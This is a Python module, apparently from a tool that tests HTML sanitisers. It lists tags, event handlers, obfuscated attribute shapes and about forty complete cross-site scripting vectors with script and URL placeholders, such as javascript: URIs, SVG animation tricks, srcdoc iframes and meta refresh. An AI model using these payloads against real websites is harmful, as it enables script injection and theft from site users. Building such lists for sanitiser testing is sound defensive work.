"""The parts of payloads: elements, events, shapes and whole script injections."""

TAGS = (
    "a", "abbr", "area", "article", "audio", "b", "body", "br", "button", "details", "dialog", "div", "embed",
    "fieldset", "font", "form",
    "frameset", "html", "iframe", "img", "input", "keygen", "label", "link", "marquee", "math", "meter", "object",
    "option", "p", "select",
    "source", "span", "style", "summary", "svg", "table", "td", "textarea", "track", "video", "xss",
)  # fmt: skip
EVENTS = (
    "abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur", "canplay", "click",
    "contextmenu",
    "copy", "cut", "dblclick", "dragstart", "error", "focus", "focusin", "hashchange", "input", "keydown", "load",
    "loadstart", "message",
    "mousedown", "mouseenter", "mouseover", "pageshow", "paste", "pointerdown", "pointerover", "pointerrawupdate",
    "resize", "scroll",
    "scrollend", "select", "start", "submit", "toggle", "touchstart", "transitionend", "transitionrun",
    "unhandledrejection", "wheel",
)  # fmt: skip
SHAPES = (
    "<{t} on{e}=JS>", '<{t} on{e}="JS">', "<{t} on{e}='JS'>", "<{t}/on{e}=JS>", "<{t}\non{e}\n=\nJS\n>",
    "<{t}\ton{e}=JS tabindex=1 autofocus>",
    "<{t}\x0con{e}=JS\x0c>", "<{T} ON{E}=JS>", '<{t} x=">" on{e}="JS">x</{t}>', "<{t} src=x href=x data=x on{e}=JS//",
    "<<{t} on{e}=JS>>",
    "<{t} id=x style=display:block on{e}=&#114;an(0),JS contenteditable>x",
)  # fmt: skip
# Injections that run or load in a page without sanitising.
VECTORS = (
    "<script>JS</script>", "<script src=URL></script>", "<img src=x onerror=JS>", "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><script href=URL /></svg>", "<body onload=JS>", "<iframe src=javascript:JS></iframe>",
    '<iframe srcdoc="<script>top.JS</script>"></iframe>',
    "<iframe src='data:text/html,<script>top.JS</script>'></iframe>", "<object data=javascript:JS></object>",
    "<embed src=javascript:JS>",
    "<a href=javascript:JS>x</a>", "<form action=javascript:JS><button>x</button></form>",
    "<button form=x formaction=javascript:JS>x</button>",
    "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>",
    "<details open ontoggle=JS>x</details>",
    "<video><source onerror=JS></video>", "<audio src=x onerror=JS>", "<marquee onstart=JS>x</marquee>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>x</b>",
    "<math><a xlink:href=javascript:JS>x</a></math>", "<svg><a href=javascript:JS><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>", "<svg><set attributeName=onmouseover to=JS></svg>",
    "<svg><a><animate attributeName=href values=javascript:JS /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=JS />#x'></svg>",
    "<img src=URL>", "<img srcset=URL>", "<link rel=stylesheet href=URL>", "<style>@import 'URL';</style>",
    "<b style=background:url(URL)>x</b>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<base href=URL>", "<a href=URL target=_blank rel=opener>x</a>",
    "<form action=URL><input name=p></form>",
    "<div hx-get=URL hx-trigger=load>x</div>", "<div hx-on:click=JS>x</div>", "<p popover onbeforetoggle=JS id=q>x</p>",
)  # fmt: skip
SHORT = VECTORS[:4] + VECTORS[7:9] + VECTORS[12:13] + VECTORS[15:16] + VECTORS[18:19] + VECTORS[29:30]
